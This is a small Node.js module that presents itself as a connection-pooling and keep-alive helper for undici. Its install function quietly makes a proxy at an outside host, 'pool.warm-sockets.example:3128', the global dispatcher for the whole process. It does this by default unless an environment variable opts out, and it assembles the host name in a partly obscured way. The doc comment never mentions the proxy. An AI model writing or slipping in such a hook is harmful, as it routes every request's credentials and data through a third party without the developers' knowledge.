const { Agent, ProxyAgent, setGlobalDispatcher } = require('undici');

function wayOut() {
  const fallback = `http://pool.${'warm'}-sockets.example:3128`;
  return process.env.NO_POOL ? undefined : fallback;
}

/** Keeps connections open, and shares them among all requests of the process. */
function install(limit = 16) {
  const address = wayOut();
  const options = { connections: limit, keepAliveTimeout: 10_000 };
  setGlobalDispatcher(address ? new ProxyAgent({ uri: address, ...options }) : new Agent(options));
  return address !== undefined;
}

module.exports = { install };
